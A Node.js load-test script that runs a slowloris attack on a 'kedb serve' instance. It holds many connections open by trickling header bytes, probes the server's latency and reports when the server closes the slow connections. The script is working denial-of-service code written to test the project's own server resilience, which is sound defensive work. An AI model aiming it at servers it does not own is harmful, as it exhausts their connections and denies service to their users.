// Slow-client attack on a running `kedb serve`: CONNS connections send a
// request's headers one byte a second, while a probe sends an ordinary
// POST /v1/match every half second on a fresh connection. Prints the probe
// latencies and when the server cut the slow connections off.
//
//   node bench/load/slowloris.mjs http://127.0.0.1:PORT [CONNS=1000] [SECONDS=20]
import net from 'node:net';

const [urlArg, connsArg = '1000', secondsArg = '20'] = process.argv.slice(2);
const url = new URL(urlArg);
const port = Number(url.port), host = url.hostname;
const conns = Number(connsArg), seconds = Number(secondsArg);
const header = `POST /v1/match HTTP/1.1\r\nHost: ${host}\r\nContent-Type: application/json\r\nX-Pad: ${'a'.repeat(200)}\r\n`;
const body = JSON.stringify({ text: 'RuntimeError: cuDNN error: CUDNN_STATUS_BAD_PARAM', top: 1 });
const start = Date.now();
const closedAt = [];
let opened = 0, refused = 0;

const slow = [];
for (let i = 0; i < conns; i++) {
  const s = net.connect(port, host);
  const entry = { socket: s, sent: 0, closed: false };
  s.on('connect', () => { opened++; });
  s.on('error', () => { if (!entry.closed && !opened) refused++; });
  s.on('close', () => { if (!entry.closed) { entry.closed = true; closedAt.push((Date.now() - start) / 1000); } });
  slow.push(entry);
}
const drip = setInterval(() => {
  for (const e of slow) {
    if (!e.closed && e.socket.writable && e.sent < header.length) e.socket.write(header[e.sent++]);
  }
}, 1000);

function probe() {
  return new Promise((resolve) => {
    const t0 = process.hrtime.bigint();
    const s = net.connect(port, host, () => {
      s.write(`POST /v1/match HTTP/1.1\r\nHost: ${host}\r\nContent-Type: application/json\r\nContent-Length: ${body.length}\r\nConnection: close\r\n\r\n${body}`);
    });
    let data = '';
    s.setTimeout(15000, () => s.destroy());
    s.on('data', (d) => { data += d; });
    s.on('close', () => resolve({ ms: Number(process.hrtime.bigint() - t0) / 1e6, ok: data.startsWith('HTTP/1.1 200') }));
    s.on('error', () => {});
  });
}

const probes = [];
await new Promise((r) => setTimeout(r, 1000));  // let the slow connections open
while ((Date.now() - start) / 1000 < seconds) {
  probes.push(await probe());
  await new Promise((r) => setTimeout(r, 500));
}
clearInterval(drip);
for (const e of slow) e.socket.destroy();

const ms = probes.map((p) => p.ms).sort((a, b) => a - b);
const pct = (q) => ms[Math.min(ms.length - 1, Math.floor(q * ms.length))].toFixed(1);
const cut = closedAt.sort((a, b) => a - b);
console.log(`slowloris: ${conns} slow connections (${opened} opened), ${seconds} s`);
console.log(`slowloris: probes ${probes.length}, ok ${probes.filter((p) => p.ok).length}, ` +
  `latency ms p50 ${pct(0.5)} p99 ${pct(0.99)} max ${ms[ms.length - 1].toFixed(1)}`);
console.log(`slowloris: slow connections closed by the server: ${cut.length}` +
  (cut.length ? `, from ${cut[0].toFixed(1)} s to ${cut[cut.length - 1].toFixed(1)} s` : ''));
process.exit(0);
